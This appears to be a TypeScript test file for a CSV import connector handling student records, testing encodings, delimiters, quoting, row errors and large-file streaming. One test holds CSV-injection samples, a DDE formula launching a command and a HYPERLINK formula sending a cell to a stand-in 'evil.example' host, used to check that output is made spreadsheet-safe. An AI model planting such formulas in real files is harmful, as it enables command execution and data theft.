import assert from "node:assert/strict";
import { once } from "node:events";
import { createWriteStream, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, describe, it } from "node:test";
import { setFlagsFromString } from "node:v8";
import { runInNewContext } from "node:vm";
import { spreadsheetSafe } from "../../src/connectors/record-fields.ts";
import type { SourceItem, SourceRecord } from "../../src/connectors/source-record.ts";
import { CsvSource, type CsvSourceOptions } from "../../src/connectors/sources/csv-source.ts";

const dir = mkdtempSync(join(tmpdir(), "openesc-csv-"));
after(() => rmSync(dir, { recursive: true, force: true }));

let files = 0;
function file(content: string | Uint8Array): string {
  files += 1;
  const path = join(dir, `students-${files}.csv`);
  writeFileSync(path, content);
  return path;
}

async function read(content: string | Uint8Array, options: Omit<CsvSourceOptions, "path"> = {}) {
  const items: SourceItem[] = [];
  for await (const item of new CsvSource({ path: file(content), ...options }).items()) items.push(item);
  return items;
}

const records = (items: readonly SourceItem[]): SourceRecord[] =>
  items.flatMap((i) => ("record" in i ? [i.record] : []));
const problems = (items: readonly SourceItem[]) =>
  items.flatMap((i) => ("problem" in i ? [[i.problem.origin.row, i.problem.field, i.problem.reason]] : []));

const esi = (n: number | string) => `urn:schac:personalUniqueCode:int:esi:fr:${n}`;
const HEADER = "esi,fullName,academicLevel,email,statusState,validFrom,validUntil";

describe("the native CSV source", () => {
  it("reads persons, statuses and cards by column name, in any order, with rows counted from the first data row", async () => {
    const items = await read(
      [
        "fullName,ESI,statusState,validFrom,cardType,issuedAt,expiresAt,escn",
        `Jeanne Exemple,${esi(1)},enrolled,2026-09-01,SMART_PASSIVE,2026-09-01,2030-08-31,`,
        `Jan Kowalski,${esi(2)},,,,,,`,
      ].join("\r\n"),
    );
    assert.deepEqual(problems(items), []);
    const [jeanne, jan] = records(items);
    assert.deepEqual(jeanne?.origin, { row: 1 });
    assert.equal(jeanne?.person.esi, esi(1));
    assert.equal(jeanne?.person.fullName, "Jeanne Exemple");
    assert.deepEqual(jeanne?.status, { state: "enrolled", validFrom: "2026-09-01", validUntil: null });
    assert.equal(jeanne?.card?.cardType, "SMART_PASSIVE");
    assert.equal(jeanne?.card?.escn, null);
    assert.deepEqual(jan?.origin, { row: 2 });
    assert.equal(jan?.status, null);
    assert.equal(jan?.card, null);
  });

  const UTF8 = `${HEADER}\n${esi(1)},Renée Lefèvre,MASTER,renee@example.org,enrolled,2026-09-01,\n`;
  const withBom = (bom: number[], body: Buffer) => Buffer.concat([Buffer.from(bom), body]);
  const utf16be = (text: string) => Buffer.from(text, "utf16le").swap16();

  for (const [name, bytes] of [
    ["UTF-8 without a byte order mark", Buffer.from(UTF8, "utf8")],
    ["UTF-8 with a byte order mark", withBom([0xef, 0xbb, 0xbf], Buffer.from(UTF8, "utf8"))],
    ["UTF-16 LE with a byte order mark", withBom([0xff, 0xfe], Buffer.from(UTF8, "utf16le"))],
    ["UTF-16 BE with a byte order mark", withBom([0xfe, 0xff], utf16be(UTF8))],
    ["UTF-16 LE without a byte order mark", Buffer.from(UTF8, "utf16le")],
    ["UTF-16 BE without a byte order mark", utf16be(UTF8)],
  ] as const) {
    it(`reads ${name}, the mark not taken for part of the first column's name`, async () => {
      const items = await read(bytes);
      assert.deepEqual(problems(items), []);
      assert.equal(records(items)[0]?.person.fullName, "Renée Lefèvre");
      assert.equal(records(items)[0]?.person.esi, esi(1));
    });
  }

  /** windows-1252 bytes: Latin-1 for most; Š and Œ are in 0x80–0x9F, where ISO-8859-1 has controls. */
  const HIGH: Record<string, number> = { "€": 0x80, Š: 0x8a, Œ: 0x8c };
  const windows1252 = (text: string) => Buffer.from([...text].map((c) => HIGH[c] ?? c.charCodeAt(0)));

  it("detects windows-1252 from bytes that are not UTF-8, and decodes its 0x80–0x9F range", async () => {
    const bytes = windows1252(
      `esi;fullName\n${esi(1)};Jürgen Šimek\n${esi(2)};Renée Lefèvre\n${esi(3)};Zoë Œuvray\n`,
    );
    const items = await read(bytes);
    assert.deepEqual(problems(items), []);
    assert.deepEqual(
      records(items).map((r) => r.person.fullName),
      ["Jürgen Šimek", "Renée Lefèvre", "Zoë Œuvray"],
    );
  });

  it("lets an explicit encoding override the detection, and reports per row the bytes it cannot decode", async () => {
    const bytes = windows1252(
      `esi,fullName\n${esi(1)},Jean Dupont\n${esi(2)},Renée Lefèvre\n${esi(3)},Anne Roy\n`,
    );
    const items = await read(bytes, { encoding: "utf-8" });
    assert.deepEqual(problems(items), [
      [2, "fullName", "has bytes that are not text in the file's encoding"],
    ]);
    assert.deepEqual(
      records(items).map((r) => r.origin.row),
      [1, 3],
    );
    // The same bytes, detected: windows-1252.
    assert.equal(records(await read(bytes))[1]?.person.fullName, "Renée Lefèvre");
  });

  for (const [name, delimiter] of [
    ["semicolon", ";"],
    ["tab", "\t"],
    ["pipe", "|"],
  ] as const) {
    it(`detects the ${name} delimiter from the header line`, async () => {
      const text = [
        ["esi", "fullName", "email"].join(delimiter),
        [esi(1), `"Exemple, Jeanne"`, "jeanne@example.org"].join(delimiter),
      ].join("\n");
      const items = await read(text);
      assert.deepEqual(problems(items), []);
      assert.equal(records(items)[0]?.person.fullName, "Exemple, Jeanne");
      assert.equal(records(items)[0]?.person.email, "jeanne@example.org");
    });
  }

  it("takes the delimiter given over the detected one", async () => {
    // The header line holds more commas than semicolons, but the file says `;`.
    const items = await read(`esi;fullName\n${esi(1)};"Exemple, Jeanne, Marie"\n`, { delimiter: ";" });
    assert.equal(records(items)[0]?.person.fullName, "Exemple, Jeanne, Marie");
  });

  it("reads quoted values with delimiters, doubled quotes and line breaks, and keeps counting rows as a spreadsheet does", async () => {
    const text = [
      "esi,fullName,notes",
      `${esi(1)},"Exemple, Jeanne","first line`,
      `second line, with a comma"`,
      `${esi(2)},"Jean ""Johnny"" Dupont",`,
      `${esi(3)},Anne Roy,"""quoted"""`,
    ].join("\n");
    const items = await read(text);
    const rows = records(items).map((r) => [r.origin.row, r.person.fullName]);
    assert.deepEqual(rows, [
      [1, "Exemple, Jeanne"],
      [2, 'Jean "Johnny" Dupont'],
      [3, "Anne Roy"],
    ]);
  });

  it("reports a row with too few or too many fields, and goes on; blank rows are skipped but counted", async () => {
    const text = [
      "esi,fullName,email",
      `${esi(1)},Jeanne Exemple,jeanne@example.org`,
      `${esi(2)},Jan Kowalski`,
      "",
      ",,",
      `${esi(3)},Anne Roy,anne@example.org,extra`,
      `${esi(4)},Jean Dupont,`,
    ].join("\n");
    const items = await read(text);
    assert.deepEqual(problems(items), [
      [2, "", "has 2 fields where the header has 3"],
      [5, "", "has 4 fields where the header has 3"],
    ]);
    assert.deepEqual(
      records(items).map((r) => r.origin.row),
      [1, 6],
    );
  });

  it("keeps a formula as data, and a report made safe with spreadsheetSafe shows it as text", async () => {
    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
    const text = [
      `esi,fullName,"=cmd|'/C calc'!A0"`,
      `${esi(1)},"=HYPERLINK(""https://evil.example/?""&A1,""Click"")",x`,
    ].join("\n");
    const items = await read(text);
    assert.equal(records(items)[0]?.person.fullName, formula);
    assert.equal(spreadsheetSafe(records(items)[0]?.person.fullName ?? ""), `'${formula}`);
    // The column name comes from the file: the problem about it is already safe to open in a spreadsheet.
    assert.deepEqual(problems(items), [
      [0, "'=cmd|'/C calc'!A0", "is not a column of the native CSV; its values are ignored"],
    ]);
  });

  it("refuses, row by row, control characters and line breaks in any field, an e-mail address included", async () => {
    const text = [
      "esi,fullName,email,displayName,cardType,issuedAt,expiresAt",
      `${esi(1)},Jeanne\u0007Exemple,,,,,`,
      `${esi(2)},Jan Kowalski,jan\u0001@example.org,,,,`,
      `${esi(3)},"Anne`,
      `Roy",,,,,`,
      `${esi(4)},Jean Dupont,,"J.\u001b[31m D.",SMART_PASSIVE,2026-09-01,2030-08-31`,
      `${esi(5)},Marie Curie,marie@example.org,,,,`,
    ].join("\n");
    const items = await read(text);
    const reason = "must not contain control characters or line breaks";
    assert.deepEqual(problems(items), [
      [1, "fullName", reason],
      [2, "email", reason],
      [3, "fullName", reason],
      [4, "displayName", reason],
    ]);
    assert.deepEqual(
      records(items).map((r) => r.origin.row),
      [5],
    );
  });

  it("names the column as the file names it in a problem, with custom column names", async () => {
    const items = await read(`Student ID;Name;Mail\nnot-an-esi;Jeanne Exemple;\n${esi(2)};Jan;jan@\n`, {
      columns: { esi: "Student ID", fullName: "name", email: "Mail" },
    });
    assert.deepEqual(
      problems(items).map(([row, field]) => [row, field]),
      [
        [1, "Student ID"],
        [2, "Mail"],
      ],
    );
  });

  it("reads a file without a header in the order of RECORD_FIELDS", async () => {
    const items = await read(`${esi(1)},Jeanne Exemple,MASTER\n${esi(2)},Jan Kowalski,DOCTORATE\n`, {
      header: false,
    });
    assert.deepEqual(
      records(items).map((r) => [r.origin.row, r.person.academicLevel]),
      [
        [1, "MASTER"],
        [2, "DOCTORATE"],
      ],
    );
  });

  it("fails before any row when a required column is missing, naming it but quoting no cell", async () => {
    const seen: SourceItem[] = [];
    const source = new CsvSource({ path: file(`esi,name,email\n${esi(1)},Jeanne Exemple,\n`) });
    await assert.rejects(
      async () => {
        for await (const item of source.items()) seen.push(item);
      },
      (error: Error) => {
        assert.match(
          error.message,
          /^csv:.*students-\d+\.csv: the header has no column "fullName" \(required\)/,
        );
        assert.match(error.message, /among its 3/);
        assert.doesNotMatch(error.message, /name|email/, "a header may be a student's row: never quoted");
        return true;
      },
    );
    assert.deepEqual(seen, []);
  });

  it("fails as a whole on a file that is empty, missing, names a column twice or leaves a quote open", async () => {
    const drain = async (source: CsvSource) => {
      for await (const _ of source.items());
    };
    await assert.rejects(drain(new CsvSource({ path: file("") })), /has no header row/);
    await assert.rejects(
      drain(new CsvSource({ path: join(dir, "nowhere.csv") })),
      /^Error: csv:.*nowhere\.csv: the file cannot be opened \(ENOENT\)/,
    );
    await assert.rejects(drain(new CsvSource({ path: file("esi,fullName,ESI\n") })), /"ESI" appears twice/);
    await assert.rejects(
      drain(new CsvSource({ path: file(`esi,fullName\n${esi(1)},Jeanne\n${esi(2)},"Jan\n`) })),
      /^Error: csv:.*students-\d+\.csv: a quoted value is not closed before the end of the file \(line 3\)$/,
    );
    // A quote left open near the start of a large file: refused at the size limit, not read to the end.
    const open = `esi,fullName\n${esi(1)},"Jeanne\n${`${esi(2)},Jan Kowalski\n`.repeat(30_000)}`;
    await assert.rejects(
      drain(new CsvSource({ path: file(open) })),
      /a row is longer than 1048576 characters/,
    );
  });

  it("refuses options it cannot honour", () => {
    assert.throws(() => new CsvSource({ path: "x.csv", delimiter: ":" }), TypeError);
    assert.throws(() => new CsvSource({ path: "x.csv", header: false, columns: { esi: "ESI" } }), TypeError);
    assert.throws(() => new CsvSource({ path: "x.csv", columns: { email: "esi" } }), /esi and email/);
  });

  it("streams 200,000 rows with flat memory, and tells its progress", async () => {
    const path = join(dir, "large.csv");
    const out = createWriteStream(path);
    out.write(`${HEADER}\n`);
    for (let i = 0; i < 200_000; i++) {
      const row = `${esi(`s${i}`)},Student Number ${i},MASTER,s${i}@example.org,enrolled,2026-09-01,2027-08-31\n`;
      if (!out.write(row)) await once(out, "drain");
    }
    out.end();
    await once(out, "finish");

    setFlagsFromString("--expose-gc");
    const gc = runInNewContext("gc") as () => void;
    gc();
    const baseline = process.memoryUsage().heapUsed;
    let peak = 0;
    let count = 0;
    const source = new CsvSource({ path });
    for await (const item of source.items()) {
      assert.ok("record" in item, JSON.stringify(item));
      count += 1;
      if (count % 20_000 === 0) {
        gc();
        peak = Math.max(peak, process.memoryUsage().heapUsed - baseline);
        const { bytesRead, totalBytes } = source.progress();
        assert.ok(bytesRead > 0 && bytesRead <= totalBytes);
      }
    }
    assert.equal(count, 200_000);
    assert.ok(peak < 50 * 1024 * 1024, `the heap grew by ${Math.round(peak / 1024 / 1024)} MB`);
    const { bytesRead, totalBytes } = source.progress();
    assert.ok(totalBytes > 20 * 1024 * 1024, `${totalBytes}`);
    assert.equal(bytesRead, totalBytes);
  });
});
